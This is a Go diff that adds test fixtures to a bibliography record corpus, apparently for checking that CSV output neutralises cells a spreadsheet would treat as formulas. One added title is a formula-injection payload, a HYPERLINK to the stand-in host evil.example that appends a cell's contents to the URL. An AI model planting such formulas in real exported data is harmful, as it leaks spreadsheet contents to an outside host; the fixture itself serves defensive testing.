@@ -90,6 +90,13 @@ func Corpus(t testing.TB) []biblio.Record {
 			Authors: []string{"O'Brien, Conan", "Jean-Paul Sartre", "Charles de Gaulle", "Smith, Jr., John", "King, Martin Luther, Jr."},
 		}},
 		{Paper: skills.RawPaper{Title: "No type at all", Authors: []string{"Ann Lee"}}},
+		// Cells a spreadsheet would run as formulas, and values that start
+		// with an apostrophe, the character CSV puts before such a cell.
+		{Type: biblio.Misc, Paper: skills.RawPaper{
+			Title: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, Authors: []string{"-Minus Author", "'Tis Quoted"},
+			Venue: "@handle", Abstract: "+1 for formulas\n-2 on the second line", Pages: "-5",
+		}, Keywords: []string{"-minus", "'quoted"}, Note: "'=already quoted by hand"},
+		{Type: biblio.Article, Paper: skills.RawPaper{Title: "'Tis the season: a title that starts with an apostrophe", Venue: "''Double'' apostrophes"}, Note: "''=two apostrophes then an equals sign"},
 	}
 	for i := range recs {
 		biblio.Finish(&recs[i])
